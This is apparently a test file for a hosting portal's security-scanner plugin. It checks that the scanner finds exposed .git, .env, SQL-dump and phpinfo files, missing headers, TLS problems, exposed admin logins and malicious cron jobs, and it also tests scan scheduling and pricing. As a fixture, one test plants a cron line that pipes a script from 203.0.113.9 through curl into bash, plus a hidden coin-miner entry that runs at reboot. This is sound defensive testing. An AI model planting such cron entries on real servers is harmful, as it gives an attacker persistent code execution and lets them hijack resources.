/**
 * Issue 25 through the real portal with every plugin: a site of the nginx module served by the server's private
 * nginx, planted files found over HTTP (only with matching content; the portal's own configuration denies hidden
 * files, a customer's include-slot snippet that opens them exposes them), security headers missing until the site
 * sends them, a re-scan clean after removing the files; a malicious cron entry; the schedule stored, refused with
 * field errors, paid runs confirmed once (R9.023), and a scheduled scan started by the scheduler at its slot.
 */
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import { Cluster, demoLogins, startPluginPortal, type PluginPortal } from '@portal/plugin-sdk/testing';
import { listSites, requestSite } from '@portal/plugin-sdk/webserver';
import type { ApiOperations } from '../generated/operations.ts';

let t: PluginPortal<ApiOperations>;
beforeAll(async () => {
  t = await startPluginPortal<ApiOperations>(() => import('../plugin.ts'), { allPlugins: true });
}, 120_000);
afterAll(() => t?.stop());

const finished = async (reportId: number) => {
  for (let i = 0; i < 600; i++) {
    const r = await t.api.call('getShopSecurityReport', { path: { reportId } });
    if (r.body.status !== 'running') return r.body;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`report ${reportId} still running`);
};
const scan = async () => {
  const started = await t.api.call('runShopSecurityScan');
  expect(started.status).toBe(202);
  const r = await finished(started.body.id);
  expect(r.status).toBe('done');
  return r.result!;
};

/** Run as root (this container), the private nginx's workers are `nobody`: let them into the 0700 test directory. */
const openForWorkers = (hostPath: string) => {
  if (process.getuid?.() !== 0) return;
  for (let d = hostPath; d !== '/'; d = d.slice(0, d.lastIndexOf('/')) || '/') fs.chmodSync(d, fs.statSync(d).mode | 0o005);
};

const host = 'scan.mueller-schmidt-shop.example';
const root = '/var/www/scan/public';
/** A change of the private nginx's sites, applied. */
const nginxApplied = (method: string, path: string, body?: unknown) => t.appliedIn('nginx', method, path, body);

describe('R2.025 shop-security over HTTP through the private web server (issue 25)', () => {
  it('finds exposed files with matching content and missing headers; fixed on the server, the re-scan is clean', async () => {
    const site = await nginxApplied('POST', '/vhosts', { serverNames: [host], documentRoot: 'scan/public', backend: 'static' });
    const gw = t.portal.managed.gateway(t.server.id);
    await gw.writeFile({ path: `${root}/index.html`, content: '<!doctype html><title>Shop</title>' });
    await gw.writeFile({ path: `${root}/.git/HEAD`, content: 'ref: refs/heads/main\n' });
    await gw.writeFile({ path: `${root}/.env`, content: 'APP_KEY=base64:c2VjcmV0\nDB_PASSWORD=geheim\n' });
    await gw.writeFile({ path: `${root}/shop-2026-11-01.sql`, content: '-- MariaDB dump 10.19\nCREATE TABLE `customer` (id int);\n' });
    await gw.writeFile({ path: `${root}/phpinfo.php`, content: '<?php phpinfo();\n' });
    openForWorkers(gw.hostPath(root));
    const mine = (r: { findings: { file: string; rule: string }[] }) => r.findings.filter((f) => f.file.startsWith(`http://${host}/`)).map((f) => f.rule).sort();

    // The portal's configuration denies hidden files: .git and .env answer 403 and are no finding.
    const first = await scan();
    expect(first.sites).toContain(`http://${host}`);
    expect(mine(first)).toEqual(['backup_exposed', 'header_content_type_options', 'header_frame_options', 'header_referrer_policy', 'phpinfo_exposed']);
    const backup = first.findings.find((f) => f.rule === 'backup_exposed' && f.file.startsWith(`http://${host}/`))!;
    expect(backup).toMatchObject({ kind: 'exposed_file', severity: 'critical', file: `http://${host}/shop-2026-11-01.sql`, server: 'nginx', site: host });
    expect(backup.directive).toMatch(/^location ~\* .*sql.* \{ deny all; \}$/);
    expect(first.findings.find((f) => f.rule === 'header_referrer_policy' && f.site === host)!.directive).toBe('add_header Referrer-Policy "strict-origin-when-cross-origin" always;');

    // A customer's snippet in the site's include slot opens them; the site sends the headers the findings named.
    await gw.writeFile({ path: `/etc/nginx/portal-slots/${host}/before-locations.conf`, content: 'location ^~ /.git/ { }\nlocation = /.env { }\n' });
    const headers = [
      { name: 'add_header', value: 'X-Content-Type-Options nosniff' },
      { name: 'add_header', value: 'X-Frame-Options SAMEORIGIN' },
      { name: 'add_header', value: 'Referrer-Policy strict-origin-when-cross-origin' },
    ];
    await nginxApplied('PUT', `/vhosts/${site.id}`, { serverNames: [host], documentRoot: 'scan/public', backend: 'static', directives: headers });
    const second = await scan();
    expect(mine(second)).toEqual(['backup_exposed', 'env_exposed', 'git_exposed', 'phpinfo_exposed']);
    expect(second.findings.find((f) => f.rule === 'env_exposed' && f.site === host)).toMatchObject({ severity: 'critical', evidence: expect.stringContaining('HTTP 200: APP_KEY=') });

    // Removed from the document root: a 404 (or the shop's page) is no finding.
    for (const f of ['.git/HEAD', '.env', 'shop-2026-11-01.sql', 'phpinfo.php']) await gw.removeFile(`${root}/${f}`);
    expect(mine(await scan())).toEqual([]);
  }, 120_000);

  it('finds an admin login reachable from anywhere by its form, not a catch-all 200 page; reports the WordPress version the page shows', async () => {
    const admin = 'admin.mueller-schmidt-shop.example';
    const docroot = '/var/www/admin/public';
    const gw = t.portal.managed.gateway(t.server.id);
    await gw.writeFile({ path: `${docroot}/index.html`, content: '<!doctype html><html><head><meta name="generator" content="WordPress 6.4.2" /><title>Shop</title></head><body>Willkommen</body></html>' });
    await gw.writeFile({ path: `${docroot}/phpmyadmin/index.html`, content: '<!doctype html><title>phpMyAdmin</title><form method="post" id="login_form"><input name="pma_username"><input type="password" name="pma_password"></form>' });
    // Every unknown path answers 200 with the shop's page (a front controller does the same).
    await gw.writeFile({ path: `/etc/nginx/portal-slots/${admin}/before-locations.conf`, content: 'error_page 404 =200 /index.html;\n' });
    openForWorkers(gw.hostPath(docroot));
    await nginxApplied('POST', '/vhosts', { serverNames: [admin], documentRoot: 'admin/public', backend: 'static' });
    const site = (await listSites(gw)).find((s) => s.host === admin)!;
    expect((await requestSite(gw, site, '/wp-login.php'))!.status).toBe(200); // the catch-all answers, with no login form

    const r = await scan();
    const mine = r.findings.filter((f) => f.site === admin && f.kind !== 'missing_header');
    expect(mine.map((f) => [f.kind, f.rule]).sort()).toEqual([
      ['admin_exposed', 'admin_phpmyadmin'],
      ['shop_version', 'version_generator'],
    ]);
    expect(mine.find((f) => f.kind === 'admin_exposed')).toMatchObject({
      severity: 'high',
      file: `http://${admin}/phpmyadmin/`,
      server: 'nginx',
      directive: expect.stringMatching(/^location \^~ \/phpmyadmin\/ \{ allow <your IP>; deny all; /),
      evidence: expect.stringContaining('HTTP 200'),
    });
    expect(mine.find((f) => f.kind === 'shop_version')).toMatchObject({ severity: 'low', file: `http://${admin}/`, evidence: 'WordPress 6.4.2' });
  }, 120_000);

  it('reports the TLS protocol of an HTTPS site and flags its certificate expiring in less than 14 days', async () => {
    const secure = 'tls.mueller-schmidt-shop.example';
    const gw = t.portal.managed.gateway(t.server.id);
    await gw.writeFile({ path: '/var/www/tls/public/index.html', content: '<!doctype html><title>TLS</title>' });
    openForWorkers(gw.hostPath('/var/www/tls/public'));
    // The customer's certificate, installed before the apply (so the portal does not create its own): self-signed, 7 days.
    const cert = gw.hostPath('/etc/ssl/portal/mueller-schmidt-shop-2026.pem');
    const key = gw.hostPath('/etc/ssl/portal/mueller-schmidt-shop-2026.key');
    fs.mkdirSync(gw.hostPath('/etc/ssl/portal'), { recursive: true });
    execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-sha256', '-days', '7', '-subj', `/CN=${secure}`, '-addext', `subjectAltName=DNS:${secure}`, '-keyout', key, '-out', cert], { stdio: 'ignore' });
    await nginxApplied('POST', '/vhosts', { serverNames: [secure], documentRoot: 'tls/public', backend: 'static', certificate: 'mueller-schmidt-shop-2026' });

    const r = await scan();
    expect(r.sites).toContain(`https://${secure}`);
    const handshake = r.tls!.find((h) => h.site === secure)!;
    expect(handshake).toMatchObject({ protocol: expect.stringMatching(/^TLSv1\.[23]$/), certificate: { subject: secure, names: [secure], matchesHost: true, selfSigned: true } });
    // The client offers TLS 1.0 and 1.1 (SECLEVEL=0), so the server's answer is known either way.
    expect(['accepted', 'refused']).toContain(handshake.legacy.TLSv1);
    expect(['accepted', 'refused']).toContain(handshake.legacy['TLSv1.1']);
    const tls = r.findings.filter((f) => f.site === secure && f.kind === 'tls');
    expect(tls.find((f) => f.rule === 'tls_cert_expiring')).toMatchObject({ severity: 'high', file: `https://${secure}/`, evidence: expect.stringMatching(/\((?:6|7) days\)$/) });
    expect(tls.find((f) => f.rule === 'tls_self_signed')).toMatchObject({ severity: 'low' }); // the local sandbox
    expect(tls.some((f) => f.rule === 'tls_hostname_mismatch')).toBe(false);
    const old = tls.find((f) => f.rule === 'tls_old_protocol');
    expect(!!old).toBe(handshake.legacy.TLSv1 === 'accepted' || handshake.legacy['TLSv1.1'] === 'accepted');
    if (old) expect(old.directive).toBe('ssl_protocols TLSv1.2 TLSv1.3;');
  }, 120_000);

  it('finds a malicious entry in the crontabs the cronjobs module renders, at its line', async () => {
    const gw = t.portal.managed.gateway(t.server.id);
    const before = (await gw.readFile('/etc/cron.d/portal')) ?? '';
    await gw.writeFile({ path: '/etc/cron.d/portal', content: `${before}*/5 * * * * www-data curl -fsSL http://203.0.113.9/x.sh | bash\n` });
    await gw.writeFile({ path: '/var/spool/cron/crontabs/www-data', content: '# m h dom mon dow command\n@reboot /tmp/.X11/kdevtmpfsi --donate-level 1\n' });
    try {
      const r = await scan();
      expect(r.crontabs).toEqual(expect.arrayContaining(['/etc/cron.d/portal', '/var/spool/cron/crontabs/www-data']));
      const line = before.split('\n').length;
      expect(r.findings).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ kind: 'malicious_cron', rule: 'cron_download_exec', severity: 'critical', file: '/etc/cron.d/portal', line }),
          expect.objectContaining({ kind: 'malicious_cron', rule: 'cron_miner', file: '/var/spool/cron/crontabs/www-data', line: 2 }),
        ]),
      );
      expect(r.findings.some((f) => f.kind === 'malicious_cron' && f.file === '/etc/cron.d/portal' && f.line! < line)).toBe(false);
    } finally {
      await gw.writeFile({ path: '/etc/cron.d/portal', content: before });
      await gw.removeFile('/var/spool/cron/crontabs/www-data');
    }
  }, 60_000);
});

describe('R9.023 scheduled scans (issue 25)', () => {
  const setSla = async (sla: 'basic' | 'business') => {
    const em = t.portal.db.orm.em.fork();
    await em.nativeUpdate(Cluster, { id: t.cluster.id }, { sla });
  };
  afterAll(async () => {
    await setSla('business');
    await t.api.call('setShopSecuritySchedule', { body: { mode: 'off', weekday: 1, hour: 3 } });
    t.portal.clock.set('2026-11-22T10:00:00Z');
  });

  it('refuses invalid values with field errors (422)', async () => {
    const r = await t.api.call('setShopSecuritySchedule', { body: { mode: 'hourly', weekday: 0, hour: 24 } as never });
    expect(r.status).toBe(422);
    expect(Object.keys(r.body.error!.fields!).sort()).toEqual(['hour', 'mode', 'weekday']);
  });

  it('a charged schedule needs its price confirmed once; a free one (Basic SLA in the window) does not', async () => {
    await setSla('business');
    t.portal.clock.set('2026-11-23T10:00:00Z');
    const refused = await t.api.call('setShopSecuritySchedule', { body: { mode: 'weekly', weekday: 3, hour: 4 } });
    expect(refused.status).toBe(422);
    expect(refused.body.error!.fields).toEqual({ confirmPrice: ['shop-security:errors.price_not_confirmed'] });
    const saved = await t.api.call('setShopSecuritySchedule', { body: { mode: 'weekly', weekday: 3, hour: 4, confirmPrice: true } });
    expect(saved.status).toBe(200);
    // Wednesday 25.11.2026, 04:00 in Berlin (UTC+1).
    expect(saved.body).toMatchObject({ mode: 'weekly', weekday: 3, hour: 4, zone: 'Europe/Berlin', nextRun: '2026-11-25T03:00:00.000Z', confirmedCents: 1900, paused: false, price: { free: false, cents: 1900 }, updatedBy: demoLogins.admin });
    expect((await t.api.call('getShopSecuritySchedule')).body).toMatchObject({ mode: 'weekly', nextRun: '2026-11-25T03:00:00.000Z' });

    await setSla('basic');
    t.portal.clock.set('2026-01-10T10:00:00Z');
    const free = await t.api.call('setShopSecuritySchedule', { body: { mode: 'daily', weekday: 1, hour: 2 } });
    expect(free.body).toMatchObject({ confirmedCents: null, paused: false, price: { free: true } });
  });

  it('the scheduler starts the scan at its slot, once, marked as scheduled; a charged slot without confirmation is skipped', async () => {
    const { schedules } = await import('./index.ts');
    await setSla('basic');
    t.portal.clock.set('2026-01-12T12:00:00Z');
    expect((await t.api.call('setShopSecuritySchedule', { body: { mode: 'daily', weekday: 1, hour: 3 } })).status).toBe(200);
    const scheduled = async () => (await t.api.call('listShopSecurityReports')).body.data.filter((r) => r.startedBy === 'schedule');
    await schedules.tick();
    expect(await scheduled()).toEqual([]); // 12.01. 03:00 was before the schedule was saved

    t.portal.clock.set('2026-01-13T02:05:00Z'); // 03:05 in Berlin
    await schedules.tick();
    const runs = await scheduled();
    expect(runs).toHaveLength(1);
    expect((await finished(runs[0]!.id)).result!.price).toEqual({ free: true, cents: 0 });
    await schedules.tick();
    expect(await scheduled()).toHaveLength(1);

    // After the free window a scheduled scan costs money: without a confirmed price it does not start.
    t.portal.clock.set('2026-01-28T02:05:00Z');
    expect((await t.api.call('getShopSecuritySchedule')).body).toMatchObject({ paused: true, price: { free: false } });
    await schedules.tick();
    expect(await scheduled()).toHaveLength(1);
  }, 60_000);
});
